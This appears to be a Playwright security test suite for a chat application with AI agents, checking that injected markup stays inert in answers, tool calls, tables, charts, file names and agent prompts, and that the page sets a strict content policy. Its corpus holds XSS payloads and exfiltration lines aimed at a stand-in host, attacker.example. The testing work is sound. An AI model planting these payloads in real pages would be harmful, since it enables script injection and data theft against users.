/**
 * Hostile text wherever text comes from: shown as text. The page's watch fails on anything else.
 */

import type { Page } from "@playwright/test";

import { Chat } from "./kit/chat";
import { expect, test } from "./kit/fixtures";
import { settle } from "./kit/pages";

const CORPUS = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(2)></svg>",
  "<script>alert(3)</script>",
  "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
  "<a href='javascript:alert(5)'>click</a>",
  "[x](javascript:alert(6))",
  "[x](JaVaScRiPt:alert(7))",
  "[x](java\tscript:alert(8))",
  "[x](data:text/html,<script>alert(9)</script>)",
  "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
  "![leak](https://attacker.example/?q=secret)",
  "<img src='https://attacker.example/pixel.gif'>",
  "[ref]: javascript:alert(11)\n[click][ref]",
  "<https://attacker.example/auto>",
  "<javascript:alert(12)>",
  "| a |\n| --- |\n| <img src=x onerror=alert(13)> |",
  "```html\n<script>alert(14)</script>\n```",
  "```mermaid\ngraph TD; A[<img src=x onerror=alert(15)>]\n```",
  "$\\href{javascript:alert(16)}{x}$",
  "<style>@import url(https://attacker.example/x.css);</style>",
  "<form action='https://attacker.example'><button>go</button></form>",
  "<math><mtext><img src=x onerror=alert(17)></mtext></math>",
  '"><img src=x onerror=alert(18)>',
  "{{constructor.constructor('alert(19)')()}}",
  "‮<img src=x onerror=alert(20)>",
];
const WORST = '"><img src=x onerror=alert(1)>';

/**
 * Nothing active came of it: no script, no frame, no handler, no address that runs or leads out.
 */
async function expectInert(page: Page): Promise<void> {
  const active = await page.evaluate(() => {
    const found = [...document.body.querySelectorAll("*")].filter(
      (element) =>
        ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "BASE", "META"].includes(element.tagName) ||
        [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith("on") ||
            name === "srcdoc" ||
            (["href", "src", "action", "xlink:href"].includes(name) &&
              /^\s*(javascript|vbscript|data:text)/i.test(value)) ||
            (name === "src" && /^https?:\/\/(?!127\.0\.0\.1)/.test(value)),
        ),
    );
    return found
      .filter((element) => !(element.tagName === "SCRIPT" && element.hasAttribute("src")))
      .map((element) => element.outerHTML.slice(0, 200));
  });
  expect(active).toEqual([]);
}

test("in answers, streamed, thought and stored", { tag: "@first" }, async ({ page }) => {
  const chat = new Chat(page);
  const lines = CORPUS.flatMap((each) => each.split("\n")).map(
    (line) => `!echo ${line}\n!think ${line}`,
  );
  await chat.begin(lines.join("\n"));
  await chat.answered();
  for (const thought of await chat.last.getByRole("button", { name: /Thought/ }).all()) {
    await thought.click();
  }
  await expectInert(page);
  await page.reload();
  await chat.answered();
  await expectInert(page);
});

test("each on its own, as Markdown would read it", async ({ page, client }) => {
  const { id } = await client.post<{ id: string }>("/api/conversations");
  for (const each of CORPUS.filter((one) => !one.includes("\n"))) {
    await client.ask(`!echo ${each}`, { session_id: id });
  }
  await page.setViewportSize({ width: 1280, height: 9000 });
  const chat = new Chat(page);
  await chat.open(id);
  await chat.answered();
  await expect(chat.turns).toHaveCount(CORPUS.filter((one) => !one.includes("\n")).length);
  await settle(page);
  await expectInert(page);
});

test("in questions, titles and tool arguments, in what is asked first, and in results", async ({
  page,
}) => {
  const chat = new Chat(page);
  const call = JSON.stringify({ file_path: `/${WORST}.md`, content: CORPUS.join("\n") });
  await chat.begin(
    `${WORST}\n!tool ls ${JSON.stringify({ path: WORST })}\n!tool write_file ${call}`,
  );
  await chat.stands("The answer waits for your decision.");
  await expectInert(page);
  await chat.last.getByRole("button", { name: "Change it" }).click();
  await expectInert(page);
  await chat.last.getByRole("button", { name: "Approve with changes" }).click();
  await chat.answered();
  const folds = chat.last.locator("button[aria-expanded=false]");
  while ((await folds.count()) > 0) await folds.first().click();
  await expectInert(page);
});

test("in cells, column names and titles of tables, and in chart specs", async ({ page }) => {
  const chat = new Chat(page);
  const sql = `SELECT '${WORST}' AS "${WORST.replaceAll('"', '""')}", 1 AS n`;
  await chat.begin(`!tool sql_db_query ${JSON.stringify({ sql, title: WORST })}`);
  await chat.answered();
  await expectInert(page);
  const found = /artifacts\/([0-9a-f]{32})/.exec(await historyText(page));
  const spec = {
    mark: { type: "text", href: "javascript:alert(1)", tooltip: WORST },
    title: WORST,
    data: { url: "https://attacker.example/data.json" },
    encoding: {
      x: { field: "n", type: "quantitative", axis: { labelExpr: "alert(2)" } },
      href: { value: "javascript:alert(3)" },
      url: { value: "https://attacker.example/i.png" },
    },
  };
  const chart = { artifact_id: found?.[1] ?? "", spec, title: WORST };
  await chat.ask(`!tool make_chart ${JSON.stringify(chart)}`);
  await chat.answered();
  await settle(page);
  await expectInert(page);
});

/** The conversation's stored events, as text. */
function historyText(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const id = location.pathname.split("/").at(-1) ?? "";
    const conversation = (await (await fetch(`/api/conversations/${id}`)).json()) as {
      thread_id: string;
    };
    return (await fetch(`/api/threads/${conversation.thread_id}/history`)).text();
  });
}

test("in names of files and conversations", async ({ page, client }) => {
  const chat = new Chat(page);
  await chat.open();
  await page.locator("main input[type=file]").setInputFiles([
    {
      name: "<img src=x onerror=alert(1)>.csv",
      mimeType: "text/csv",
      buffer: Buffer.from("a\n1\n"),
    },
  ]);
  // by the name it was sent under, and then by the one the server gave it
  await expect(page.getByRole("button", { name: /^Remove [<_]img/ })).toBeVisible();
  await expect(page.getByRole("progressbar")).toHaveCount(0); // it is there
  await chat.ask("!echo with a strange file");
  await chat.answered();
  const id = page.url().split("/").at(-1) ?? "";
  await client.send("PATCH", `/api/conversations/${id}`, { title: "<img src=x onerror=alert(2)>" });
  await page.reload();
  await chat.answered();
  await expect(page.getByRole("heading", { name: "<img src=x onerror=alert(2)>" })).toBeVisible();
  await expectInert(page);
});

test.describe("as someone with a source of their own", () => {
  test.use({ as: "new" }); // others have one source, and need not name it

  test("in the columns and cells of an uploaded file", async ({ page, client }) => {
    const name = `hostile_${Date.now() % 100_000}`;
    await client.upload(name, `"<img src=x onerror=alert(1)>",b\n"<svg onload=alert(2)>",2\n`);
    for (const address of ["/data", `/data/${name}`]) {
      await page.goto(address);
      await settle(page);
      await expect(page.getByText(name).first()).toBeVisible();
      await expectInert(page);
    }
  });
});

test.describe("as an administrator", () => {
  test.use({ as: "admin" });

  test("in agents' descriptions and prompts", async ({ page, client }) => {
    const agent = await client.post<{ id: string }>("/api/v1/agents", {
      name: `hostile-${Date.now() % 100_000}`,
      description: CORPUS.join(" "),
      system_prompt: CORPUS.join("\n"),
      icon: WORST,
    });
    try {
      for (const address of ["/", "/admin/agents"]) {
        await page.goto(address);
        await settle(page);
        await expectInert(page);
      }
    } finally {
      await client.send("DELETE", `/api/v1/agents/${agent.id}`);
    }
  });
});

test("the page's policy lets in nothing but the app itself", async ({ page }) => {
  const answer = await page.goto("/");
  const policy = answer?.headers()["content-security-policy"] ?? "";
  expect(policy).toMatch(/default-src 'none'/);
  expect(policy).toMatch(/script-src 'self'(;|$)/);
  expect(policy).not.toMatch(/unsafe|\*|https?:/);
  expect(policy).toMatch(/frame-ancestors 'none'/);
  expect(policy).toMatch(/base-uri 'none'/);
  expect(policy).toMatch(/form-action 'self'|form-action 'none'/);
  expect(answer?.headers()["x-content-type-options"]).toBe("nosniff");
});

test("a link in an answer opens outside, and tells nothing of where it came from", async ({
  page,
}) => {
  const chat = new Chat(page);
  await chat.begin("!echo See [the site](https://example.com/page)");
  await chat.answered();
  const link = chat.last.getByRole("link", { name: /the site/ });
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", /noopener/);
  await expect(link).toHaveAttribute("rel", /noreferrer/);
});
